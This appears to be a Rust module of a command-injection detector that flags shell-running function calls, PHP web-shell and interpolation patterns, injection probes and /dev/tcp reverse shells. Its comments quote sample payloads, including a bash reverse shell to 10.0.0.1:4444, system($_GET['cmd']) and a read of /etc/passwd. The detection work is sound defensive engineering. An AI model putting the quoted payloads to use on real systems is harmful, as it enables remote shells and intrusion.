//! Code that runs commands, wherever it sits in a value: calls of the functions that hand
//! a string to a shell or an interpreter (`system('id')`, `exec("whoami")`,
//! `Runtime.getRuntime().exec("cmd /c dir")`), PHP's evaluating interpolation
//! (`${@print(...)}`, `{${phpinfo()}}`), and a shell's network redirection
//! (`/dev/tcp/10.0.0.1/4444`). The shell's arithmetic probe (`$((7+7))`, see
//! [`evaluation_probe`]) is found by the separator scan, which stops at every `$`.
//! These are not prose and not data, so, unlike separators, they count whatever precedes
//! them.

use super::{
    super::Match,
    vocabulary::LONGEST_COMMAND,
    words,
};

/// Functions that run their string argument as a shell command or as code: PHP (`system`,
/// `exec`, `shell_exec`, `passthru`, `popen`, `proc_open`, `pcntl_exec`, `eval`, `assert`),
/// Perl and Ruby (`system`, `exec`, `eval`), Python (`os.system`, `os.popen`, `exec`,
/// `eval`), Node.js (`child_process.exec`, `execSync`, `spawn`, `spawnSync`, `execFile`),
/// Java (`Runtime.exec`). Matched by name, any case (PHP's are case-insensitive).
const RUNS_ITS_ARGUMENT: &[&str] = &[
    "system",
    "exec",
    "execsync",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "spawn",
    "spawnsync",
    "execfile",
];

/// PHP's file inclusion: code execution when the file named comes from the request.
const INCLUDES: &[&str] = &["include", "include_once", "require", "require_once"];

/// PHP's request variables (superglobals): a call of [`RUNS_ITS_ARGUMENT`] or
/// [`INCLUDES`] on one of them is a web shell (`system($_GET['cmd'])`).
const REQUEST_VARIABLES: &[&str] = &[
    "$_get", "$_post", "$_request", "$_cookie", "$_server", "$_files", "$_env",
];

/// Whether `b` starts with one of [`REQUEST_VARIABLES`] (any case).
pub(super) fn request_variable(b: &[u8]) -> bool {
    REQUEST_VARIABLES.iter().any(|v| {
        b.get(..v.len())
            .is_some_and(|p| p.eq_ignore_ascii_case(v.as_bytes()))
    })
}

/// The longest name in [`RUNS_ITS_ARGUMENT`] and [`INCLUDES`].
const LONGEST_CALL: usize = 12;

/// The first command-running code in `value`, of the kinds `hints` leave possible.
pub(super) fn check(value: &str, hints: super::Hints) -> Option<Match> {
    let b = value.as_bytes();
    // A reverse shell redirects: `>&`, `0<&1`, `<>`.
    if hints.redirect {
        let mut from = 0;
        while let Some(p) = super::super::find(&value[from..], "/dev/") {
            let at = from + p;
            if reverse_shell(b, at) {
                return Some(Match::new("cmdi:reverse_shell", value, at, at + 40));
            }
            from = at + 1;
        }
    }
    if !hints.code {
        return None;
    }
    let mut i = 0;
    while let Some(p) = b[i..].iter().position(|&c| c == b'(' || c == b'{') {
        let at = i + p;
        let found = match b[at] {
            b'(' => call(value, at)
                .or_else(|| phpinfo_call(b, at))
                .map(|start| (start, "cmdi:code_call")),
            // `${@` is looked at from its `$`.
            _ => {
                let start = if at > 0 && b[at - 1] == b'$' { at - 1 } else { at };
                php_interpolation(b, start).then_some((start, "cmdi:evaluation"))
            }
        };
        if let Some((start, rule)) = found {
            return Some(Match::new(rule, value, start, (at + 40).min(value.len())));
        }
        i = at + 1;
    }
    None
}

/// Where the call whose `(` is at `paren` starts, when it is a call of
/// [`RUNS_ITS_ARGUMENT`] on a string that holds a command, or of it or [`INCLUDES`] on a
/// request variable.
fn call(value: &str, paren: usize) -> Option<usize> {
    let b = value.as_bytes();
    let name_len = b[..paren]
        .iter()
        .rev()
        .take(LONGEST_CALL + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_')
        .count();
    if name_len == 0 || name_len > LONGEST_CALL {
        return None;
    }
    let start = paren - name_len;
    let name = &b[start..paren];
    let runs = RUNS_ITS_ARGUMENT
        .iter()
        .any(|n| n.as_bytes().eq_ignore_ascii_case(name));
    if !runs && !INCLUDES.iter().any(|n| n.as_bytes().eq_ignore_ascii_case(name)) {
        return None;
    }
    let arg = value[paren + 1..].trim_start_matches([' ', '\t']);
    // Python and Node.js take the command as a list too: `Popen(['cat', '/etc/passwd'])`.
    let arg = arg
        .strip_prefix('[')
        .map_or(arg, |a| a.trim_start_matches([' ', '\t']));
    let a = arg.as_bytes();
    if request_variable(a) {
        return Some(start);
    }
    let quote = *a.first()?;
    if !runs || !matches!(quote, b'\'' | b'"' | b'`') {
        return None;
    }
    let close = a[1..].iter().position(|&c| c == quote)?;
    // The string's end is the command's end: `system('ls')`, not `system('more ' + f)`.
    let command = &arg[1..=close];
    words::command_at(command, 0, false, false).map(|_| start)
}

/// Where `phpinfo()` starts, when its `(` is at `paren` and it sits in code: glued to
/// the punctuation that closes the input's string or expression before it (`'.phpinfo().'`,
/// `)'}phpinfo()'#`, `exec(phpinfo())`, commix's code injection probes) or starting the
/// value, and followed by the end or more punctuation. Text about it puts a blank
/// before it ("run phpinfo() to see") or words after it.
fn phpinfo_call(b: &[u8], paren: usize) -> Option<usize> {
    const NAME: &[u8] = b"phpinfo";
    let start = paren.checked_sub(NAME.len())?;
    if !b[start..paren].eq_ignore_ascii_case(NAME) || b.get(paren + 1) != Some(&b')') {
        return None;
    }
    let code = |c: &u8| matches!(c, b'.' | b'\'' | b'"' | b';' | b')' | b'(' | b'{' | b'}' | b'\n' | b'\r');
    let before = b[..start].iter().rev().find(|&&c| c != b'@');
    let after = b.get(paren + 2);
    let glued_before = before.is_none_or(code);
    let glued_after = after.is_none_or(|c| code(c) || matches!(c, b'#' | b'/' | b'\\'));
    (glued_before && glued_after).then_some(start)
}

/// `$((7+7))`, `$[7+7]`: a shell's arithmetic on two literal numbers. Scripts do their
/// sums on variables; a probe checks that the value reached a shell by reading back the
/// result (commix writes `echo X$((31+7))$(echo X)X`). Template engines' `{{7*7}}` is the
/// template injection check's.
pub(super) fn evaluation_probe(b: &[u8], at: usize) -> bool {
    let rest = &b[at..];
    let (open, close): (usize, &[u8]) = if rest.starts_with(b"$((") {
        (3, b"))")
    } else if rest.starts_with(b"$[") {
        (2, b"]")
    } else {
        return false;
    };
    let mut k = open;
    let blanks = |k: &mut usize| {
        while rest.get(*k).is_some_and(|&c| c == b' ') {
            *k += 1;
        }
    };
    let number = |k: &mut usize| {
        let from = *k;
        while rest.get(*k).is_some_and(u8::is_ascii_digit) {
            *k += 1;
        }
        *k > from && *k - from <= 9
    };
    blanks(&mut k);
    if !number(&mut k) {
        return false;
    }
    blanks(&mut k);
    if !rest
        .get(k)
        .is_some_and(|c| matches!(c, b'+' | b'-' | b'*' | b'/' | b'%'))
    {
        return false;
    }
    k += 1;
    blanks(&mut k);
    if !number(&mut k) {
        return false;
    }
    blanks(&mut k);
    rest[k..].starts_with(close)
}

/// Whether the substitution opened at `at` (`$(` when `open` is 2, a backtick when 1) is
/// a marker an injection prints around a command's output to find it in the page:
/// `echo` of one word, glued to a word or another substitution (commix's
/// `echo TAG$(echo TAG)$(id)$(echo TAG)TAG`). Scripts substitute commands, not literals,
/// and text puts a blank before a substitution.
pub(super) fn echo_marker(b: &[u8], at: usize, open: usize) -> bool {
    if open == 2 && b.get(at + 1) != Some(&b'(') {
        return false;
    }
    let glued = at > 0 && (b[at - 1].is_ascii_alphanumeric() || matches!(b[at - 1], b')' | b'`'));
    if !glued {
        return false;
    }
    let Ok(inner) = std::str::from_utf8(&b[at + open..b.len().min(at + open + 80)]) else {
        return false;
    };
    let inner = words::skip_blanks(inner);
    let word = words::word_end(inner.as_bytes());
    let mut buf = [0; LONGEST_COMMAND];
    if word == 0 || words::command_word(&inner.as_bytes()[..word], &mut buf) != "echo" {
        return false;
    }
    let arg = &inner[word..];
    let token = words::skip_blanks(arg);
    if token.len() == arg.len() {
        return false;
    }
    // The word may carry the quoting and empty expansions of the tampers (`''T''A''G`).
    let close = if open == 2 { b')' } else { b'`' };
    let t = token.as_bytes();
    let len = t
        .iter()
        .take(48)
        .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'\\' | b'@' | b'{' | b'}' | b'$'))
        .count();
    t[..len].iter().any(u8::is_ascii_alphanumeric) && t.get(len) == Some(&close)
}

/// PHP's complex interpolation running a function: `${@print(...)}` (with `@`, PHP's error
/// silencing, which only code writes) or `{${phpinfo()}}`.
fn php_interpolation(b: &[u8], at: usize) -> bool {
    let rest = &b[at..];
    if !rest.starts_with(b"${@") && !rest.starts_with(b"{${") {
        return false;
    }
    let name = &rest[3..];
    let len = name
        .iter()
        .take(LONGEST_COMMAND)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_')
        .count();
    len > 0 && name.get(len) == Some(&b'(')
}

/// `/dev/tcp/` or `/dev/udp/` and an address: the redirection bash turns into a network
/// connection, the core of a reverse shell (`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`).
/// The manual's own `/dev/tcp/host/port` names no address.
fn reverse_shell(b: &[u8], at: usize) -> bool {
    let rest = &b[at..];
    (rest.starts_with(b"/dev/tcp/") || rest.starts_with(b"/dev/udp/"))
        && rest.get(9).is_some_and(u8::is_ascii_digit)
}
